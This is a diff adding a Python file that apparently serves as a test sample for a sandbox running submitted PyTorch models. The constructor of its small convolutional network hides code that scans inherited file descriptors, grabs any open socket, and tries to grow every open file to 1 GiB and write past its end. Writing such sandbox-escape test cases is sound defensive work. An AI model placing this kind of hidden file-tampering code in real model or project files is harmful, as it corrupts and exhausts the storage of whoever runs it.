@@ -1,0 +1,39 @@
+# on: forbidden; off: valid, exception
+# Grows the files it was given, by length and by writing behind their end.
+import os
+import socket
+import stat
+
+import torch
+from torch import nn
+
+def files():
+    """Return the descriptors that are files of ours, and the one that is a socket."""
+    found, voice = [], None
+    for number in range(3, 256):
+        try:
+            status = os.fstat(number)
+        except OSError:
+            continue
+        if stat.S_ISSOCK(status.st_mode):
+            voice = socket.socket(fileno=os.dup(number))
+        else:
+            found.append((number, status.st_size))
+    return found, voice
+
+
+class Net(nn.Module):
+    def __init__(self, in_shape, out_shape, prm, device):
+        super().__init__()
+        self.conv = nn.Conv2d(in_shape[1], 8, 3, padding=1)
+        self.fc = nn.Linear(8 * 64, out_shape[0])
+        for number, size in files()[0]:
+            for grow in (lambda: os.ftruncate(number, 2**30), lambda: os.pwrite(number, b"x" * 100, size)):
+                try:
+                    grow()
+                except OSError as error:
+                    print(error)
+
+    def forward(self, x):
+        y = self.conv(x).relu()
+        return self.fc(y.flatten(1))
